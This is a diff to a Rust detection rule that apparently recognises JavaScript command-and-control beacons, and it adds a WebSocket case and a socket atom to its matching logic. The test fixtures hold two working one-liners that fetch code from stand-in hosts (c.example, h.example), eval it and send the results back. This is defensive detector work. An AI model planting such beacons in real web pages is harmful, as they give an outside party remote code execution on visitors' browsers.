@@ -18,6 +18,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "setInterval(function(){fetch('https://c.example/next').then(r=>r.json()).then(j=>{var out=eval(j.code);fetch('https://c.example/out',{method:'POST',body:JSON.stringify({id:j.id,out:out})})})},500)",
+            "var s=new WebSocket('wss://h.example/s');s.onmessage=function(e){var r;try{r=eval(e.data)}catch(x){r=x}s.send(String(r))}",
         ],
         without: &[
             "setInterval(function(){fetch('/status').then(r=>r.json()).then(j=>{fetch('/seen',{method:'POST',body:JSON.stringify({id:j.id})})})},500)",
@@ -29,7 +30,8 @@ pub(super) const SIGNAL: Signal = Signal {
 /// Whether what running a text gives is kept and handed to something that sends or to a function of the script.
 fn answers(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 200);
-    let again = [Atom::Repeat, Atom::Delay, Atom::EndlessLoop];
+    // What a socket says comes again and again.
+    let again = [Atom::Repeat, Atom::Delay, Atom::EndlessLoop, Atom::Socket];
     let asked = [Atom::AnswerBody, Atom::MessageBody, Atom::AnswerHanded];
     let sent = [Atom::Post, Atom::PostMethod, Atom::Socket, Atom::SentAbroad];
     if !near.has_fact(&again) || !near.has_fact(&asked) || !near.has_fact(&sent) {
